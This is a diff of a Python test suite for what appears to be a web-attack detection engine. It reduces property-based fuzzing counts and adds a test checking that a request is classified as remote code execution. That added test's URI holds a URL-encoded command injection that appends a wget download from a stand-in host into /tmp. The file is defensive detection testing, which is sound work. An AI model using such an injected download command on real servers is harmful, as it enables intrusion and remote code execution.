@@ -103,13 +103,13 @@ def test_a_hostile_request_is_borne(row: dict[str, Any]) -> None:
     assert isinstance(shipped_engine().assess(row).classes, tuple)
 
 
-@settings(max_examples=150, deadline=None)
+@settings(max_examples=50, deadline=None)
 @given(st.binary(max_size=300))
 def test_any_bytes_of_the_wire_are_borne(data: bytes) -> None:
     shipped_engine().assess(from_bytes(data))
 
 
-@settings(max_examples=150, deadline=None)
+@settings(max_examples=50, deadline=None)
 @given(
     st.text(max_size=60),
     st.text(max_size=80),
@@ -138,3 +138,9 @@ def test_the_figures_on_the_labelled_corpus() -> None:
     assert tables["http paranoia 1-2"]["precision"] >= 0.92
     assert tables["http benign ordinary"]["false_positives"] <= 0.005
     assert tables["http benign crs-fp"]["false_positives"] <= 0.08
+
+
+def test_a_command_in_a_request_is_read_by_the_rules_of_commands() -> None:
+    found = shipped_engine().assess({"uri": "/ping?host=a%3Bwget%20http%3A%2F%2Fb.example%2Fc%20-O%20%2Ftmp%2Fc", "headers": BROWSER})
+    assert found.classes == ("rce",)
+    assert {"T1190", "T1059.004", "T1105"} <= set(found.techniques)
